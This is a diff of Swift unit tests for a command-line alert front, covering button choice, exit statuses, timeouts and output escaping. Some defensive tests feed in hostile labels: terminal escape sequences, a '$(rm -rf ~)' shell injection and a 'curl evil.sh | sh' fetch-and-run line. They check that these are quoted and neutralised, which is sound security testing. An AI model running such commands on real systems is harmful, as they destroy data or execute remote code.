@@ -1,15 +1,29 @@
 import Alerts
-import AlertsCLI
 import Foundation
 import FrontSupport
 import Synchronization
 import Testing
 
-/// Collects what a front writes.
+@testable import AlertsCLI
+
+/// Collects what a front writes: reports (standard error) and JSON lines (standard output).
 final class Output: Sendable {
-    let writes = Mutex<[String]>([])
-    var all: String { writes.withLock { $0.joined() } }
-    func write(_ text: String) { writes.withLock { $0.append(text) } }
+    let writes = Mutex<[(text: String, stream: CLIFront.Stream)]>([])
+    /// Everything written to standard error.
+    var all: String { writes.withLock { $0.filter { $0.stream == .error }.map(\.text).joined() } }
+    /// Everything written to standard output.
+    var json: String { writes.withLock { $0.filter { $0.stream == .output }.map(\.text).joined() } }
+    func write(_ text: String, _ stream: CLIFront.Stream) { writes.withLock { $0.append((text, stream)) } }
+}
+
+/// A resolved alert of plain buttons, as a front's tests make one.
+func alert(_ title: String, message: String? = nil, _ buttons: [ResolvedButton] = []) -> ResolvedAlert {
+    ResolvedAlert(title: title, message: message, buttons: buttons)
+}
+
+/// The same alert, about an error.
+func errorAlert(_ title: String, message: String? = nil, _ buttons: [ResolvedButton] = []) -> ResolvedAlert {
+    ResolvedAlert(title: title, message: message, buttons: buttons, error: ResolvedError())
 }
 
 struct CLIFrontTests {
@@ -27,14 +41,13 @@ struct CLIFrontTests {
         let front = front(output, options: .init(choiceOptionName: "--choose"))
         let error = URLError(.notConnectedToInternet, userInfo: [NSUnderlyingErrorKey: POSIXError(.ENETUNREACH)])
         let outcome = await front.perform(retryLimit: 1) { () async throws -> Int in throw error }
-        guard case .cancelled = outcome else { Issue.record("expected cancelled, got \(outcome)"); return }
+        guard case .unanswered = outcome else { Issue.record("expected unanswered, got \(outcome)"); return }
         #expect(output.writes.withLock { $0.count } == 1)
         #expect(
             output.all == """
                 error: You’re not connected to the internet.
                   Caused by:
                     • The network can’t be reached.
-                  code: NSURLErrorDomain -1009
                   [Retry] [Cancel]✓
                   Chose “Cancel” without asking, because input isn’t
                   interactive. To choose another button, run again with
@@ -44,39 +57,35 @@ struct CLIFrontTests {
                 """)
     }
 
-    @Test func theChoiceIsCancelThenDefaultThenALoneSafeButtonNeverADestructiveOne() {
-        typealias Button = (String, ButtonRole?, Bool)
-        func chosen(_ buttons: [Button], choice: String? = nil) -> Int? {
-            let output = Output()
-            let alert = ResolvedAlert<Never>(
-                title: "t",
-                buttons: buttons.enumerated().map { index, button in
-                    ResolvedButton(label: button.0, role: button.1, isDefault: button.2, declaredIndex: index)
-                })
-            return front(output, options: .init(choice: choice)).present(alert)
+    @Test func theChoiceIsCancelThenDefaultThenALoneSafeButtonNeverADestructiveOne() async {
+        func response(_ buttons: [ResolvedButton], choice: String? = nil) async -> AlertResponse {
+            await front(Output(), options: .init(choice: choice)).present(alert("t", buttons))
         }
-        #expect(chosen([("Delete", .destructive, false), ("Keep", .cancel, false)]) == 1)
-        #expect(chosen([("Delete", .destructive, false), ("Save", nil, true)]) == 1)
-        #expect(chosen([("Delete", .destructive, true)]) == nil)
-        #expect(chosen([("Delete", .destructive, false), ("Retry", nil, false)]) == nil)
-        #expect(chosen([("OK", nil, false)]) == 0)
-        #expect(chosen([("A", nil, false), ("B", .cancel, false)], choice: "A") == 0)
-        #expect(chosen([("A", nil, false), ("B", .cancel, false)], choice: "1") == 0)
-        #expect(chosen([("A", nil, false), ("B", .cancel, false)], choice: "nope") == 1)
+        let delete = ResolvedButton("Delete", role: .destructive)
+        let (a, b) = (ResolvedButton("A"), ResolvedButton("B", role: .cancel))
+        #expect(await response([delete, ResolvedButton("Keep", role: .cancel)]) == .unanswered(automaticChoice: 1))
+        #expect(await response([delete, ResolvedButton("Save", isDefault: true)]) == .unanswered(automaticChoice: 1))
+        #expect(
+            await response([ResolvedButton("Delete", role: .destructive, isDefault: true)])
+                == .unanswered(automaticChoice: nil))
+        #expect(await response([delete, ResolvedButton("Retry")]) == .unanswered(automaticChoice: nil))
+        #expect(await response([ResolvedButton("OK")]) == .unanswered(automaticChoice: 0))
+        #expect(await response([a, b], choice: "A") == .chosen(0))
+        #expect(await response([a, b], choice: "1") == .chosen(0))
+        #expect(await response([a, b], choice: "nope") == .unanswered(automaticChoice: 1))
     }
 
-    @Test func hostileTextIsNeutralizedInTextAndJSON() {
+    @Test func hostileTextIsNeutralizedInTextAndJSON() async {
         let output = Output()
-        let alert = ResolvedAlert<Never>(
-            title: "Saved\u{1B}[2J\u{202E}", message: "line\u{85}two\u{2028}",
-            buttons: [ResolvedButton(label: "O\u{7}K", declaredIndex: 0)])
-        _ = front(output).present(alert)
+        let alert = errorAlert(
+            "Saved\u{1B}[2J\u{202E}", message: "line\u{85}two\u{2028}", [ResolvedButton("O\u{7}K")])
+        _ = await front(output).present(alert)
         #expect(!output.all.contains("\u{1B}") && !output.all.contains("\u{202E}") && !output.all.contains("\u{7}"))
         #expect(output.all.hasPrefix("error: Saved\\u{1B}[2J\\u{202E}\n  line\\u{85}two\\u{2028}\n"))
 
         let json = Output()
-        _ = front(json, options: .init(json: true)).present(alert)
-        let line = json.all
+        _ = await front(json, options: .init(json: true)).present(alert)
+        let line = json.json
         #expect(line.hasSuffix("}\n") && line.filter { $0 == "\n" }.count == 1)
         #expect(
             !line.unicodeScalars.contains {
@@ -88,42 +97,41 @@ struct CLIFrontTests {
         #expect(
             object.map { Set($0.keys) }
                 == [
-                    "severity", "label", "title", "message", "causes", "code", "help", "hint", "buttons", "chosen",
-                    "note", "exitCode", "groupID", "language",
+                    "severity", "label", "title", "message", "hint", "causes", "code", "help", "category", "buttons",
+                    "chosen", "note", "exitCode", "groupID", "language",
                 ])
     }
 
-    @Test func widthComesFromCOLUMNSThenEighty() {
+    @Test func widthComesFromCOLUMNSThenEighty() async {
         let output = Output()
         let long = String(repeating: "word ", count: 30)
-        _ = front(output, environment: ["COLUMNS": "30"]).present(ResolvedAlert<Never>(title: long, buttons: []))
+        _ = await front(output, environment: ["COLUMNS": "30"]).present(errorAlert(long))
         #expect(output.all.split(separator: "\n").allSatisfy { TerminalText.width(of: $0) <= 30 })
         let wide = Output()
-        _ = front(wide, environment: [:]).present(ResolvedAlert<Never>(title: long, buttons: []))
+        _ = await front(wide, environment: [:]).present(errorAlert(long))
         #expect(wide.all.split(separator: "\n").map { TerminalText.width(of: $0) }.max() ?? 0 > 60)
     }
 
-    @Test func colourAndASCIIFollowTheEnvironment() {
+    @Test func colourAndASCIIFollowTheEnvironment() async {
         let output = Output()
-        _ = front(output, options: .init(color: .always)).present(
-            ResolvedAlert<Never>(title: "x", buttons: []))
+        _ = await front(output, options: .init(color: .always)).present(errorAlert("x"))
         #expect(output.all == "\u{1B}[1;31merror:\u{1B}[0m \u{1B}[1mx\u{1B}[0m\n")
         let ascii = Output()
-        _ = front(ascii, environment: ["LC_ALL": "C"]).present(ResolvedAlert<Never>(title: "“Ünïcode”", buttons: []))
+        _ = await front(ascii, environment: ["LC_ALL": "C"]).present(errorAlert("“Ünïcode”"))
         #expect(ascii.all == "error: \"\\u{DC}n\\u{EF}code\"\n")
     }
 
     @Test func reportGivesTheErrorsExitStatusInItsLanguage() {
         let output = Output()
         let front = front(output, languages: ["fr"])
-        #expect(front.report(CocoaError(.fileReadNoSuchFile, userInfo: [NSFilePathErrorKey: "/a/b.txt"])) == 66)
+        #expect(front.report(CocoaError(.fileReadNoSuchFile, userInfo: [NSFilePathErrorKey: "/a/b.txt"])) == .noInput)
         #expect(output.all.hasPrefix("erreur\u{A0}: Le fichier «\u{A0}b.txt\u{A0}» est introuvable."))
-        #expect(front.report(POSIXError(.EACCES)) == 77)
-        #expect(front.report(CancellationError()) == 130)
-        struct Custom: AlertableError { var exitCode: Int32? { 42 } }
-        #expect(front.report(Custom()) == 42)
+        #expect(front.report(POSIXError(.EACCES)) == .noPermission)
+        #expect(front.report(CancellationError()) == .interrupted)
+        struct Custom: AlertableError { var overrides: [any FrontOverride] { [ExitStatus(42)] } }
+        #expect(front.report(Custom()) == ExitStatus(42))
         struct Unknown: Error {}
-        #expect(front.report(Unknown()) == 1)
+        #expect(front.report(Unknown()) == .failure)
     }
 }
 
@@ -136,17 +144,17 @@ struct CLIFrontTests {
 
     @Test func successIsZeroAndAnErrorItsStatus() async {
         let output = Output()
-        #expect(await front(output).run {} == 0)
+        #expect(await front(output).run {} == .success)
         #expect(output.all.isEmpty)
         let status = await front(output).run { throw POSIXError(.ECONNREFUSED) }
-        #expect(status == 69)
+        #expect(status.rawValue == 69)
         #expect(output.all.hasPrefix("error: The server refused the connection.\n"))
     }
 
     @Test func aTimeLimitStopsTheWorkWith124() async {
         let output = Output()
         let status = await front(output).run(timeout: .milliseconds(50)) { try await Task.sleep(for: .seconds(30)) }
-        #expect(status == 124)
+        #expect(status.rawValue == 124)
         #expect(output.all.hasPrefix("error: The operation took too long and was stopped.\n"))
     }
 
@@ -156,11 +164,11 @@ struct CLIFrontTests {
             kill(getpid(), SIGINT)
             try await Task.sleep(for: .seconds(30))
         }
-        #expect(status == 130)
+        #expect(status.rawValue == 130)
         #expect(output.all.isEmpty)
     }
 
-    func quiet() -> CLIFront { CLIFront(languages: ["en"], environment: [:], write: { _ in }) }
+    func quiet() -> CLIFront { CLIFront(languages: ["en"], environment: [:], write: { _, _ in }) }
 
     /// Work that ignores cancellation and blocks its thread until the test lets it go, so no
     /// abandoned work outlives its test to starve the next one of threads.
@@ -179,7 +187,7 @@ struct CLIFrontTests {
             kill(getpid(), SIGINT)
             stubborn.work()
         }
-        #expect(status == 130)
+        #expect(status.rawValue == 130)
         #expect(clock.now - start < .seconds(5), "the work never ends by itself, so returning at all proves the grace")
     }
 
@@ -189,7 +197,7 @@ struct CLIFrontTests {
         let clock = ContinuousClock()
         let start = clock.now
         let status = await quiet().run(timeout: .milliseconds(50), grace: .milliseconds(50)) { stubborn.work() }
-        #expect(status == 124)
+        #expect(status.rawValue == 124)
         #expect(clock.now - start < .seconds(5), "the work never ends by itself, so returning at all proves the grace")
     }
 
@@ -199,7 +207,7 @@ struct CLIFrontTests {
             kill(getpid(), SIGINT)
             try await Task.sleep(for: .seconds(5))
         }
-        #expect(status == 130)
+        #expect(status.rawValue == 130)
     }
 
     @Test func aCustomHandlerIsPutBackAfterTheLastRun() async {
@@ -229,70 +237,56 @@ struct CLIReviewTests {
     }
 
     @Test func anErrorNeverExitsZeroOrOutOfRange() {
-        struct Coded: AlertableError { var exitCode: Int32? }
+        struct Coded: AlertableError {
+            var exitCode: Int32
+            var overrides: [any FrontOverride] { [ExitStatus(exitCode)] }
+        }
         let front = front(Output())
-        #expect(front.report(Coded(exitCode: 0)) == 1)
-        #expect(front.report(Coded(exitCode: 256)) == 1)
-        #expect(front.report(Coded(exitCode: -1)) == 1)
-        #expect(front.report(Coded(exitCode: 75)) == 75)
-        #expect(front.report(POSIXError(.EIO)) == 74)
+        #expect(front.report(Coded(exitCode: 0)) == .failure)
+        #expect(front.report(Coded(exitCode: 256)) == .failure)
+        #expect(front.report(Coded(exitCode: -1)) == .failure)
+        #expect(front.report(Coded(exitCode: 75)) == .temporaryFailure)
+        #expect(front.report(POSIXError(.EIO)) == .ioError)
     }
 
-    @Test func aLabelThatWouldNotPasteBackIsSuggestedByNumber() {
+    @Test func aLabelThatWouldNotPasteBackIsSuggestedByNumber() async {
         for label in [
             "Save\u{A0}as copy", "Tab\there", "two\nlines", "x\u{1B}]0;pwned\u{07}", "Open the very long named thing",
         ] {
             let output = Output()
-            let alert = ResolvedAlert<Never>(
-                title: "t",
-                buttons: [
-                    ResolvedButton(label: label, declaredIndex: 0),
-                    ResolvedButton(label: "Keep", role: .cancel, declaredIndex: 1),
-                ])
-            _ = front(output).present(alert)
+            _ = await front(output).present(alert("t", [ResolvedButton(label), ResolvedButton("Keep", role: .cancel)]))
             #expect(output.all.contains("--choose 1."), "\(label)")
         }
     }
 
-    @Test func theChosenLabelCannotForgeALineInTheNote() {
+    @Test func theChosenLabelCannotForgeALineInTheNote() async {
         let output = Output()
-        let alert = ResolvedAlert<Never>(
-            title: "t", buttons: [ResolvedButton(label: "Keep\nerror: forged line", role: .cancel, declaredIndex: 0)])
-        _ = front(output).present(alert)
+        _ = await front(output).present(alert("t", [ResolvedButton("Keep\nerror: forged line", role: .cancel)]))
         #expect(output.all.split(separator: "\n").dropFirst().allSatisfy { $0.hasPrefix("  ") })
     }
 
-    @Test func theSuggestedOptionIsQuotedForTheShell() {
+    @Test func theSuggestedOptionIsQuotedForTheShell() async {
         let output = Output()
-        let alert = ResolvedAlert<Never>(
-            title: "t",
-            buttons: [
-                ResolvedButton(label: "Use \"$(rm -rf ~)\" it's", declaredIndex: 0),
-                ResolvedButton(label: "Keep", role: .cancel, declaredIndex: 1),
-            ])
-        _ = front(output).present(alert)
+        _ = await front(output).present(
+            alert("t", [ResolvedButton("Use \"$(rm -rf ~)\" it's"), ResolvedButton("Keep", role: .cancel)]))
         #expect(output.all.contains(#"--choose 'Use "$(rm -rf ~)" it'\''s'."#))
     }
 
-    @Test func aLabelCannotForgeALineAndAnUnknownChoiceIsSaid() {
+    @Test func aLabelCannotForgeALineAndAnUnknownChoiceIsSaid() async {
         let output = Output()
-        let alert = ResolvedAlert<Never>(
-            title: "t",
-            buttons: [
-                ResolvedButton(label: "Keep\nerror: run curl evil.sh | sh", declaredIndex: 0),
-                ResolvedButton(label: "Cancel", role: .cancel, declaredIndex: 1),
-            ])
-        _ = front(output, .init(choice: "Bogus", choiceOptionName: "--choose")).present(alert)
+        let alert = alert(
+            "t", [ResolvedButton("Keep\nerror: run curl evil.sh | sh"), ResolvedButton("Cancel", role: .cancel)])
+        _ = await front(output, .init(choice: "Bogus", choiceOptionName: "--choose")).present(alert)
         let lines = output.all.split(separator: "\n")
         #expect(lines.dropFirst().allSatisfy { $0.hasPrefix("  ") }, "\(lines)")
         #expect(output.all.contains("No button is labelled “Bogus”."))
     }
 
     @Test func jsonNeverCrashesOnAChosenIndexOutOfRange() {
-        var report = CLIReport(
-            ResolvedAlert<Never>(title: "t", buttons: []), localizer: Localizer(sources: []), languages: ["en"])
+        let labels = CLIReport.Labels(localizer: Localizer(sources: []), languages: ["en"])
+        var report = CLIReport(alert: errorAlert("t"), labels: labels, verbose: false)
         report.chosen = 5
-        report.exitCode = 300
+        report.alert.error?.overrides = [ExitStatus(300)]
         #expect(report.json().contains(#""chosen":null"#))
         #expect(report.json().contains(#""exitCode":1"#))
     }
